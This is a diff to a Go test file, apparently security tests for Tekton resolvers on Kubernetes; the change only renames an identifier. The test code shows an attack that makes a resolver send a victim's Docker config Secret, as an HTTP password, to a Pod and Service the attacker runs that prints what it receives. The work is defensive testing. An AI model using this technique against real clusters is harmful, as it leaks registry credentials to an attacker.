@@ -19,11 +19,11 @@ import (
 var resolverAttacks = map[string]attack{
 	"a Secret for a resolver": {
 		send: func(ctx context.Context, f *field, name string, _ *pipelinev1.PipelineRun) error {
-			return f.resolved(ctx, name, "platform", "http", "url", "http://"+listener+"."+stage.Platform.Namespace+".svc/"+name,
+			return f.resolved(ctx, name, "platform", "http", "url", "http://"+catcher+"."+stage.Platform.Namespace+".svc/"+name,
 				"http-username", "x", "http-password-secret", victim.Secret, "http-password-secret-key", corev1.DockerConfigJsonKey)
 		},
 		won: func(t *testing.T, ctx context.Context, f *field, name string, _ *pipelinev1.PipelineRun) {
-			prints(t, ctx, stage.Platform.Namespace, "app="+listener, name, f.robot)
+			prints(t, ctx, stage.Platform.Namespace, "app="+catcher, name, f.robot)
 		},
 	},
 	// Tekton copies the labels of a Task that it resolved onto the TaskRun.
@@ -126,32 +126,32 @@ func (f *field) putOwnTasks(t *testing.T, ctx context.Context) {
 	})
 }
 
-// listener is a Pod of the attacker's, and its Service, which prints who sends it what.
-const listener = "attack-listener"
+// catcher is a Pod of the attacker's, and its Service, which prints who sends it what.
+const catcher = "attack-listener"
 
-func putListener(t *testing.T, ctx context.Context, image string) {
+func putCatcher(t *testing.T, ctx context.Context, image string) {
 	t.Helper()
-	labels := map[string]string{"app": listener}
-	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: listener, Labels: labels}, Spec: corev1.PodSpec{
+	labels := map[string]string{"app": catcher}
+	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: catcher, Labels: labels}, Spec: corev1.PodSpec{
 		Containers: []corev1.Container{{Name: "listen", Image: image, Args: []string{"listen", ":8080"},
 			ReadinessProbe: &corev1.Probe{PeriodSeconds: 1, ProbeHandler: corev1.ProbeHandler{TCPSocket: &corev1.TCPSocketAction{Port: intstr.FromInt32(8080)}}}}}}}
-	service := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: listener}, Spec: corev1.ServiceSpec{Selector: labels,
+	service := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: catcher}, Spec: corev1.ServiceSpec{Selector: labels,
 		Ports: []corev1.ServicePort{{Port: 80, TargetPort: intstr.FromInt32(8080)}}}}
 	core, namespace := s.Kube.CoreV1(), stage.Platform.Namespace
 	if _, err := core.Pods(namespace).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() {
-		_ = core.Pods(namespace).Delete(context.Background(), listener, metav1.DeleteOptions{GracePeriodSeconds: new(int64(0))})
+		_ = core.Pods(namespace).Delete(context.Background(), catcher, metav1.DeleteOptions{GracePeriodSeconds: new(int64(0))})
 	})
 	if _, err := core.Services(namespace).Create(ctx, service, metav1.CreateOptions{}); err != nil {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() {
-		_ = core.Services(namespace).Delete(context.Background(), listener, metav1.DeleteOptions{})
+		_ = core.Services(namespace).Delete(context.Background(), catcher, metav1.DeleteOptions{})
 	})
 	waitUntil(t, within(t, time.Minute), "the attacker's Pod listens", func() bool {
-		pod, err := core.Pods(namespace).Get(ctx, listener, metav1.GetOptions{})
+		pod, err := core.Pods(namespace).Get(ctx, catcher, metav1.GetOptions{})
 		if err != nil {
 			return false
 		}
